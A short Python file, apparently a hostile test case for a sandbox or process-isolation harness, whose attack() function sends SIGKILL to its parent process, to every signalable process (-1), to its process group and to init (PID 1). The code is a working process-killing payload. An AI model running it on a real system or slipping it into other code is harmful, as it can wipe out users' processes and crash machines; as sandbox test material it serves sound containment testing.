"""Tries to kill its parent and all other processes."""

import os
import signal


def attack(argument):
    for victim in (os.getppid(), -1, 0, 1):
        try:
            os.kill(victim, signal.SIGKILL)
        except PermissionError:
            continue
        return "killed"
    os.killpg(os.getppid(), signal.SIGKILL)
